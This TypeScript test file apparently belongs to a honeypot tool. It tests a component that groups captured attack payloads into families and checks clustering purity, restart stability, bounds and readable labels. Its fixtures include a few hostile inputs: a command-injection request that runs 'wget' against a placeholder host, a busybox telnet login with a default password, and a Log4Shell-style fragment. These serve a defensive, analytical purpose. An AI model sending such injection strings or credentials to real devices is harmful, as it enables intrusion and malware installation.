// Near-equal payloads read as one, different attacks stay apart: measured on a labelled set. Bounded, and the same after a restart.

import assert from 'node:assert/strict';
import test from 'node:test';
import fc from 'fast-check';
import { payloadKinds } from '../../../test/support/labelled-payloads.ts';
import { Chance, type PayloadKind } from '../../../test/support/payload-parts.ts';
import type { PayloadFamily } from '../../model/insight.ts';
import type { SessionView } from '../session-view.ts';
import { FamilyIndex } from './family-index.ts';

const nothing = new Uint8Array();

const view = (input: Uint8Array, start = 1): SessionView => ({
  session: {
    id: '0',
    sequence: 0,
    start,
    transport: 'tcp',
    source: { ip: '198.51.100.7', port: 4 },
    destination: { ip: '192.0.2.1', port: 80 },
    sourceReliable: true,
    diversion: 'd',
    service: 'catch-all',
    outcome: 'client-closed',
    bytesIn: input.length,
    bytesOut: 0,
    truncated: false,
  },
  input,
  output: nothing,
});

/** For each family, how many of each kind. */
function sort(kinds: readonly PayloadKind[], each: number, index = new FamilyIndex()): Map<string, Map<string, number>> {
  const chance = new Chance(4711);
  const families = new Map<string, Map<string, number>>();
  for (let round = 0; round < each; round += 1)
    for (const { name, make } of kinds) {
      const assigned = index.assign(view(make(chance))) ?? assert.fail();
      let counts = families.get(assigned.family);
      if (!counts) {
        counts = new Map();
        families.set(assigned.family, counts);
      }
      counts.set(name, (counts.get(name) ?? 0) + 1);
    }
  return families;
}

test('families of the labelled set: pure, and whole', (t) => {
  const each = 60;
  const families = sort(payloadKinds, each);
  let pure = 0;
  let total = 0;
  const largest = new Map<string, number>();
  const mixed: string[] = [];
  for (const counts of families.values()) {
    const sizes = [...counts.values()];
    pure += Math.max(...sizes);
    total += sizes.reduce((sum, size) => sum + size, 0);
    for (const [name, size] of counts) largest.set(name, Math.max(largest.get(name) ?? 0, size));
    if (counts.size > 1) mixed.push([...counts].map(([name, size]) => `${name} ${size}`).join(' + '));
  }
  const whole = [...largest.values()].reduce((sum, size) => sum + size, 0);
  const split = [...largest].filter(([, size]) => size < each * 0.95);
  t.diagnostic(
    `${payloadKinds.length} kinds, ${total} payloads, ${families.size} families: purity ${((100 * pure) / total).toFixed(2)} %, completeness ${((100 * whole) / total).toFixed(2)} %`,
  );
  t.diagnostic(`mixed: ${mixed.join('; ')}`);
  t.diagnostic(`split: ${split.map(([name, size]) => `${name} ${size}/${each}`).join('; ')}`);
  assert.ok(pure / total >= 0.98);
  assert.ok(whole / total >= 0.98);
});

test('ten thousand near-equal payloads of each of some attacks read as one', () => {
  for (const name of ['jaws', 'telnet dropper', 'adb miner']) {
    const kind = payloadKinds.find((one) => one.name === name) ?? assert.fail(name);
    const families = sort([kind], 10_000);
    const sizes = [...families.values()].map((counts) => counts.get(name) ?? 0).sort((a, b) => b - a);
    assert.ok(sizes[0] >= 9_990, `${name}: ${sizes.slice(0, 5)}`);
  }
});

test('how batches are cut does not matter, nor a restart between them', () => {
  const payloads = (() => {
    const chance = new Chance(99);
    return Array.from({ length: 1500 }, () => chance.pick(payloadKinds).make(chance));
  })();
  const assign = (index: FamilyIndex, from: number, to: number): { ids: string[]; founded: PayloadFamily[] } => {
    const ids: string[] = [];
    const founded: PayloadFamily[] = [];
    for (const [at, payload] of payloads.slice(from, to).entries()) {
      const assigned = index.assign(view(payload, from + at)) ?? assert.fail();
      ids.push(assigned.family);
      if (assigned.founded) founded.push(assigned.founded);
    }
    return { ids, founded };
  };
  const whole = assign(new FamilyIndex(), 0, payloads.length);
  assert.equal(new Set(whole.ids).size, whole.founded.length);
  fc.assert(
    fc.property(fc.nat(payloads.length), (cut) => {
      const first = assign(new FamilyIndex(), 0, cut);
      const second = assign(new FamilyIndex([...first.founded].reverse()), cut, payloads.length);
      assert.deepEqual([...first.ids, ...second.ids], whole.ids);
      assert.deepEqual([...first.founded, ...second.founded], whole.founded);
    }),
    { numRuns: 6 },
  );
  for (const { id, payloadHash, example, sketch, label } of whole.founded) {
    assert.match(id, /^[0-9a-f]{16}$/);
    assert.ok(payloadHash.startsWith(id));
    assert.ok(example.length <= 256 && sketch.length <= 1024);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that there is none is what is tested
    assert.match(label, /^[^\u0000-\u001f\u007f-\u009f]{1,120}$/);
  }
});

test('bounded in families, in those of one class, and in payloads', () => {
  const limits = { maxFamilies: 100, maxPerClass: 10, maxPayloads: 50 };
  const index = new FamilyIndex([], limits);
  const request = (path: string): Uint8Array => Buffer.from(`GET /${path}.php HTTP/1.1\r\nHost: a\r\n\r\n`);
  const letters = 'abcdefghijklmnopqrstuvwxyz';
  const words = Array.from(
    { length: 400 },
    (_, at) => `a${letters[at % 26]}e${letters[(at * 7) % 26]}${letters[Math.floor(at / 26)]}`,
  );
  const first = index.assign(view(request(words[0])));
  for (const word of words) {
    index.assign(view(request(word)));
    index.assign(view(request(words[0])));
    assert.ok(index.size <= 100);
  }
  assert.equal(index.assign(view(request(words[0])))?.family, first?.family, 'what is met all the time stays');
  assert.ok(index.evicted >= 250);
  assert.ok(index.assign(view(request(words[1])))?.founded, 'what was let go begins again');
  const chance = new Chance(5);
  const other = new FamilyIndex([], limits);
  for (let count = 0; count < 300; count += 1)
    other.assign(view(Buffer.from(`alpha ${Array.from({ length: 12 }, () => chance.word(letters, 4)).join(' ')}\r\n`)));
  assert.ok(other.size <= 10, `${other.size}`);
});

test('silence has no family, and whatever else comes has one', () => {
  const index = new FamilyIndex();
  assert.equal(index.assign(view(nothing)), undefined);
  fc.assert(
    fc.property(fc.uint8Array({ minLength: 1, maxLength: 300 }), (bytes) => {
      const { family } = index.assign(view(bytes)) ?? assert.fail();
      assert.equal(index.assign(view(Uint8Array.from(bytes)))?.family, family);
    }),
    { numRuns: 2000 },
  );
});

test('labels are for people', () => {
  const label = (text: string): string | undefined => new FamilyIndex().assign(view(Buffer.from(text, 'latin1')))?.founded?.label;
  assert.equal(
    label('GET /shell?cd+/tmp;wget+http://192.0.2.9/j HTTP/1.1\r\n\r\n'),
    'HTTP GET /shell?cd+/tmp;wget+http://192.0.2.9/j (wget command)',
  );
  assert.equal(label('root\r\nxc3511\r\nenable\r\nsystem\r\n/bin/busybox ECCHI\r\n'), 'Shell: enable, system, busybox ECCHI');
  assert.equal(label('root\r\nxc3511\r\n'), 'Login attempt');
  assert.equal(label('*1\r\n$4\r\nINFO\r\n'), 'Redis INFO');
  assert.equal(label('SSH-2.0-Go\r\n'), 'SSH-2.0-Go');
  assert.equal(label('\x00\x85\x01\x02'), 'Bytes 00850102');
  assert.equal(label('look at this, a rather long line \x1b[2J y'), 'Text look at this, a rather long line \\x1b[2J y');
});

test('repeated to the limit: no more than the length', () => {
  const index = new FamilyIndex();
  for (const unit of [
    'a',
    'a ',
    '0',
    '0.',
    '1.1.1.1 ',
    '/',
    '%',
    '%25',
    '?a=&',
    'http://',
    '\0',
    '\xff',
    '\xff\xfa',
    'é;',
    '$(',
    '\r\n',
    'sh\n',
    '${lower:',
  ])
    for (const lead of ['', 'GET /', 'GET /?', 'POST / HTTP/1.1\r\n\r\n', 'GET / HTTP/1.1\r\nx: ', 'SSH-2.0-x\r\n', '*1\r\n']) {
      const input = Buffer.from(lead + unit.repeat(Math.ceil(65_536 / unit.length)), 'latin1').subarray(0, 65_536);
      const begun = process.cpuUsage();
      index.assign(view(input));
      const { user } = process.cpuUsage(begun);
      assert.ok(user < 300_000, `${JSON.stringify(lead + unit)}: ${user} us`);
    }
});
